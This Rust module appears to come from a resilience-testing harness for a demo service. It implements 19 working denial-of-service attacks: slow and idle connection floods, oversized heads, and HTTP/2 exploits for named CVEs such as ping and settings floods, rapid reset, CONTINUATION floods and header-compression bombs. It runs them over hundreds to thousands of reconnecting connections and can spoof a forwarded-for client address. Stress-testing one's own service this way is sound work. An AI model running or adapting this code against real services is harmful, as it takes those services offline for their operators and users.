//! Clients without credentials that try to stop a service: HTTP/2 floods, slow and idle
//! connections, large heads.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::watch;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};

use crate::http2::{
    END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, REPEATED, frame, indexed_header, kind, literals,
    opening,
};

/// The interval of slow clients, and of reconnecting after a refused connection.
const PACE: Duration = Duration::from_millis(250);
/// The size of a flood's writes.
const BATCH_BYTES: usize = 16 << 10;
/// The buffer of a client that does not read.
const NARROW_BYTES: u32 = 4 << 10;
/// A public resource of a demo.
const RESOURCE: &str = "/gbac/v1/policy";
/// A public operation of a demo with a body.
const OPERATION: &str = "/access/v1/evaluation";

/// A kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Connections that send the first byte of HTTP/2's preface, and nothing more.
    FirstByte,
    /// Connections that send nothing.
    Idle,
    /// Heads that are sent byte by byte.
    SlowHeads,
    /// Bodies with a large beginning that are then sent byte by byte.
    SlowBodies,
    /// Requests whose responses are not read.
    SlowReaders,
    /// Large heads without an end.
    LargeHeads,
    /// Connections over HTTP/2 that only acknowledge pings after their first request.
    PingAcknowledgements,
    /// Responses that may be sent only byte by byte (CVE-2019-9511).
    DataDribble,
    /// Pings whose responses are not read (CVE-2019-9512).
    Pings,
    /// Priorities that change continuously (CVE-2019-9513).
    Priorities,
    /// Invalid frames that the service must reset (CVE-2019-9514).
    InvalidFrames,
    /// Settings that must be acknowledged (CVE-2019-9515).
    Settings,
    /// Headers without names and values (CVE-2019-9516).
    EmptyHeaders,
    /// Responses that may be sent, but are not read from the connection (CVE-2019-9517).
    BufferedData,
    /// Empty parts of a body (CVE-2019-9518).
    EmptyData,
    /// Requests that are reset immediately (CVE-2023-44487).
    RapidReset,
    /// Endless heads (CVE-2024-27316).
    Continuations,
    /// Flow-control windows for bodies, byte by byte.
    WindowUpdates,
    /// Small heads that are large after decompression.
    HeaderBombs,
}

impl Attack {
    /// Every attack.
    pub const ALL: [Self; 19] = [
        Self::FirstByte,
        Self::Idle,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::SlowReaders,
        Self::LargeHeads,
        Self::PingAcknowledgements,
        Self::DataDribble,
        Self::Pings,
        Self::Priorities,
        Self::InvalidFrames,
        Self::Settings,
        Self::EmptyHeaders,
        Self::BufferedData,
        Self::EmptyData,
        Self::RapidReset,
        Self::Continuations,
        Self::WindowUpdates,
        Self::HeaderBombs,
    ];

    /// Its name in results.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::FirstByte => "first_byte",
            Self::Idle => "idle",
            Self::SlowHeads => "slow_heads",
            Self::SlowBodies => "slow_bodies",
            Self::SlowReaders => "slow_readers",
            Self::LargeHeads => "large_heads",
            Self::PingAcknowledgements => "ping_acknowledgements",
            Self::DataDribble => "data_dribble",
            Self::Pings => "pings",
            Self::Priorities => "priorities",
            Self::InvalidFrames => "invalid_frames",
            Self::Settings => "settings",
            Self::EmptyHeaders => "empty_headers",
            Self::BufferedData => "buffered_data",
            Self::EmptyData => "empty_data",
            Self::RapidReset => "rapid_reset",
            Self::Continuations => "continuations",
            Self::WindowUpdates => "window_updates",
            Self::HeaderBombs => "header_bombs",
        }
    }

    /// The number of connections.
    #[must_use]
    pub const fn connections(self) -> usize {
        match self {
            Self::FirstByte => 1024,
            Self::Idle => 2000,
            Self::SlowHeads | Self::SlowBodies | Self::SlowReaders | Self::LargeHeads => 256,
            // The most connections of one address.
            Self::PingAcknowledgements | Self::DataDribble | Self::BufferedData => 128,
            _ => 16,
        }
    }

    fn script(self, target: &Target) -> Script {
        let get = |stream: u32| target.request(stream, END_STREAM, "GET", RESOURCE);
        let gets = |count: u32| (0..count).flat_map(|n| get(2 * n + 1)).collect::<Vec<u8>>();
        let post = |flags: u8| target.request(1, flags, "POST", OPERATION);
        let open = |more: &[u8]| [&opening(&[]), more].concat();
        let head = |method: &str, path: &str| {
            let (address, client) = (target.address, target.forwarded());
            format!("{method} {path} HTTP/1.1\r\nhost: {address}\r\n{client}").into_bytes()
        };
        match self {
            Self::FirstByte => Script::once(b"P".to_vec()),
            Self::Idle => Script::once(Vec::new()),
            Self::SlowHeads => Script::slow(head("GET", "/"), b"x".to_vec()),
            Self::SlowBodies => {
                let mut request = head("POST", OPERATION);
                request
                    .extend(b"content-type: application/json\r\ncontent-length: 1048576\r\n\r\n");
                request.extend([b' '; 64 << 10]);
                Script::slow(request, b" ".to_vec())
            }
            Self::SlowReaders => {
                Script::unread([&head("GET", RESOURCE)[..], b"\r\n"].concat().repeat(1000))
            }
            Self::LargeHeads => {
                Script::once([&head("GET", "/")[..], b"x-large: ", &[b'x'; 80 << 10]].concat())
            }
            Self::PingAcknowledgements => Script {
                reading: Reading::Acknowledging,
                ..Script::once(open(&get(1)))
            },
            Self::DataDribble => {
                let opening = opening(&[(INITIAL_WINDOW_SIZE, 1)]);
                let more = (0..100)
                    .flat_map(|n| frame(kind::WINDOW_UPDATE, 0, 2 * n + 1, &[0, 0, 0, 1]))
                    .collect();
                Script::slow([opening, gets(100)].concat(), more)
            }
            Self::Pings => {
                Script::flood(open(&[]), &frame(kind::PING, 0, 0, &[7; 8])).without_reading()
            }
            Self::Priorities => {
                let frames = (0..64).flat_map(|n: u32| {
                    let [a, b, c, d] = (2 * ((n + 1) % 64) + 1).to_be_bytes();
                    frame(kind::PRIORITY, 0, 2 * n + 1, &[a | 0x80, b, c, d, 255])
                });
                Script::flood(open(&[]), &frames.collect::<Vec<u8>>())
            }
            Self::InvalidFrames => {
                let opening = open(&get(1));
                Script::flood(opening, &frame(kind::DATA, END_STREAM, 1, b"x")).without_reading()
            }
            Self::Settings => {
                Script::flood(open(&[]), &frame(kind::SETTINGS, 0, 0, &[])).without_reading()
            }
            Self::EmptyHeaders => {
                let block = literals(&[("", "")].repeat(2000));
                Script::streams(open(&[]), move |stream| {
                    frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block)
                })
            }
            Self::BufferedData => {
                let mut opening = opening(&[(INITIAL_WINDOW_SIZE, i32::MAX.unsigned_abs())]);
                opening.extend(frame(kind::WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0]));
                Script::unread([opening, gets(100)].concat())
            }
            Self::EmptyData => Script::flood(open(&post(0)), &frame(kind::DATA, 0, 1, &[])),
            Self::RapidReset => {
                let target = target.clone();
                Script::streams(open(&[]), move |stream| {
                    let reset = frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]);
                    [target.request(stream, END_STREAM, "GET", RESOURCE), reset].concat()
                })
            }
            Self::Continuations => {
                let opening = open(&frame(
                    kind::HEADERS,
                    END_STREAM,
                    1,
                    &literals(&[(":method", "GET")]),
                ));
                Script::flood(opening, &frame(kind::CONTINUATION, 0, 1, &[]))
            }
            Self::WindowUpdates => Script::flood(
                open(&post(0)),
                &frame(kind::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
            ),
            Self::HeaderBombs => {
                let repeated = [REPEATED].repeat(12 << 10);
                let block = [
                    target.head("GET", RESOURCE),
                    indexed_header("x-bomb", &"x".repeat(3900)),
                    repeated,
                ]
                .concat();
                Script::streams(open(&[]), move |stream| {
                    frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block)
                })
            }
        }
    }
}

/// The target and the source of an attack.
#[derive(Debug, Clone)]
pub struct Target {
    /// The address of the service.
    pub address: SocketAddr,
    /// The address of the attacker's sockets.
    pub from: IpAddr,
    /// The client in the forwarding header, if `from` is a trusted proxy.
    pub forwarded_for: Option<IpAddr>,
}

impl Target {
    /// A connection to the service.
    ///
    /// # Errors
    /// The service refuses it, or this machine has no more connections.
    pub async fn connect(&self) -> io::Result<TcpStream> {
        let socket = if self.from.is_ipv4() {
            TcpSocket::new_v4()
        } else {
            TcpSocket::new_v6()
        }?;
        self.connect_with(socket).await
    }

    async fn connect_with(&self, socket: TcpSocket) -> io::Result<TcpStream> {
        socket.bind((self.from, 0).into())?;
        socket.connect(self.address).await
    }

    /// A connection with a small receive buffer.
    async fn connect_narrow(&self) -> io::Result<TcpStream> {
        let socket = if self.from.is_ipv4() {
            TcpSocket::new_v4()
        } else {
            TcpSocket::new_v6()
        }?;
        socket.set_recv_buffer_size(NARROW_BYTES)?;
        self.connect_with(socket).await
    }

    /// The forwarding header with the client.
    #[must_use]
    pub fn forwarded(&self) -> String {
        self.forwarded_for
            .map(|client| format!("x-forwarded-for: {client}\r\n"))
            .unwrap_or_default()
    }

    fn head(&self, method: &str, path: &str) -> Vec<u8> {
        let (address, client) = (
            self.address.to_string(),
            self.forwarded_for.map(|client| client.to_string()),
        );
        let mut headers = vec![
            (":method", method),
            (":scheme", "http"),
            (":path", path),
            (":authority", &address),
        ];
        headers.push(("content-type", "application/json"));
        headers.extend(client.as_deref().map(|client| ("x-forwarded-for", client)));
        literals(&headers)
    }

    fn request(&self, stream: u32, flags: u8, method: &str, path: &str) -> Vec<u8> {
        frame(
            kind::HEADERS,
            flags | END_HEADERS,
            stream,
            &self.head(method, path),
        )
    }
}

/// The behavior of a connection.
struct Script {
    opening: Vec<u8>,
    /// The repeated data.
    repeated: Option<Box<dyn FnMut() -> Vec<u8> + Send>>,
    is_slow: bool,
    reading: Reading,
}

#[derive(Clone, Copy)]
enum Reading {
    /// Reads everything.
    Draining,
    /// Reads everything and acknowledges pings.
    Acknowledging,
    /// Reads nothing.
    Never,
}

impl Script {
    fn once(opening: Vec<u8>) -> Self {
        Self {
            opening,
            repeated: None,
            is_slow: false,
            reading: Reading::Draining,
        }
    }

    fn unread(opening: Vec<u8>) -> Self {
        Self::once(opening).without_reading()
    }

    fn slow(opening: Vec<u8>, more: Vec<u8>) -> Self {
        Self {
            repeated: Some(Box::new(move || more.clone())),
            is_slow: true,
            ..Self::once(opening)
        }
    }

    fn flood(opening: Vec<u8>, frames: &[u8]) -> Self {
        let batch = frames.repeat((BATCH_BYTES / frames.len()).max(1));
        Self {
            repeated: Some(Box::new(move || batch.clone())),
            ..Self::once(opening)
        }
    }

    /// A flood of requests, each on a new stream.
    fn streams(opening: Vec<u8>, request: impl Fn(u32) -> Vec<u8> + Send + 'static) -> Self {
        let mut stream = 1;
        let batch = move || {
            let mut batch = Vec::new();
            while batch.len() < BATCH_BYTES {
                batch.extend(request(stream));
                stream += 2;
            }
            batch
        };
        Self {
            repeated: Some(Box::new(batch)),
            ..Self::once(opening)
        }
    }

    fn without_reading(self) -> Self {
        Self {
            reading: Reading::Never,
            ..self
        }
    }

    /// Runs until the service closes the connection; calls `begun` after sending the opening.
    async fn run(
        mut self,
        stream: TcpStream,
        sent: &AtomicU64,
        begun: impl FnOnce(),
    ) -> io::Result<()> {
        let (reader, mut writer) = stream.into_split();
        let opened = writer.write_all(&self.opening).await;
        begun();
        opened?;
        sent.fetch_add(self.opening.len() as u64, Ordering::Relaxed);
        let Some(mut repeated) = self.repeated.take() else {
            return read(reader, self.reading, Some(writer)).await;
        };
        let write = async {
            let mut pace = interval(PACE);
            pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
            loop {
                if self.is_slow {
                    pace.tick().await;
                }
                let bytes = repeated();
                writer.write_all(&bytes).await?;
                sent.fetch_add(bytes.len() as u64, Ordering::Relaxed);
            }
        };
        tokio::select! {
            ended = write => ended,
            ended = read(reader, self.reading, None) => ended,
        }
    }
}

/// Reads until the connection ends, if at all.
async fn read(
    mut reader: OwnedReadHalf,
    reading: Reading,
    writer: Option<OwnedWriteHalf>,
) -> io::Result<()> {
    match (reading, writer) {
        (Reading::Never, writer) => {
            // The socket reports an error when the service has closed it.
            let ended = reader.ready(tokio::io::Interest::ERROR).await.map(drop);
            drop(writer);
            ended
        }
        (Reading::Acknowledging, Some(mut writer)) => loop {
            let mut head = [0; 9];
            reader.read_exact(&mut head).await?;
            let [_, high, low, kind, flags, ..] = head;
            let mut payload = vec![0; usize::from(high) << 8 | usize::from(low)];
            reader.read_exact(&mut payload).await?;
            if (kind, flags) == (kind::PING, 0) {
                writer
                    .write_all(&frame(kind::PING, END_STREAM, 0, &payload))
                    .await?;
            }
        },
        (_, writer) => {
            let mut buffer = vec![0; 4096];
            while reader.read(&mut buffer).await? > 0 {}
            drop(writer);
            Ok(())
        }
    }
}

/// An attack that runs until dropped. Closed and refused connections are opened again.
#[derive(Debug)]
pub struct Attackers {
    _tasks: JoinSet<()>,
    begun: watch::Receiver<usize>,
    count: usize,
    sent: Arc<AtomicU64>,
    ended: Arc<AtomicU64>,
}

impl Attackers {
    /// Starts an attack. Requires a tokio runtime.
    #[must_use]
    pub fn start(attack: Attack, target: &Target) -> Self {
        // Many machines permit fewer than two thousand connections per process by default.
        let _ = rlimit::increase_nofile_limit(u64::MAX);
        let (sent, ended) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let (begin, begun) = watch::channel(0);
        let begin = Arc::new(begin);
        let mut tasks = JoinSet::new();
        for _ in 0..attack.connections() {
            let (target, begin, sent, ended) = (
                target.clone(),
                Arc::clone(&begin),
                Arc::clone(&sent),
                Arc::clone(&ended),
            );
            tasks.spawn(async move {
                let mut first = Some(move || begin.send_modify(|count| *count += 1));
                let mut again = interval(PACE);
                again.set_missed_tick_behavior(MissedTickBehavior::Delay);
                loop {
                    again.tick().await;
                    let script = attack.script(&target);
                    let connected = match script.reading {
                        Reading::Never => target.connect_narrow().await,
                        Reading::Draining | Reading::Acknowledging => target.connect().await,
                    };
                    if let Ok(stream) = connected {
                        let first = first.take();
                        let begun = || first.into_iter().for_each(|first| first());
                        let _ = script.run(stream, &sent, begun).await;
                        ended.fetch_add(1, Ordering::Relaxed);
                    }
                }
            });
        }
        Self {
            _tasks: tasks,
            begun,
            count: attack.connections(),
            sent,
            ended,
        }
    }

    /// Waits until every connection was opened and has sent its first bytes.
    pub async fn under_way(&mut self) {
        // The sender lives as long as the tasks.
        let _ = self.begun.wait_for(|begun| *begun == self.count).await;
    }

    /// The number of sent bytes.
    #[must_use]
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// The number of connections that the service has closed.
    #[must_use]
    pub fn ended(&self) -> u64 {
        self.ended.load(Ordering::Relaxed)
    }
}
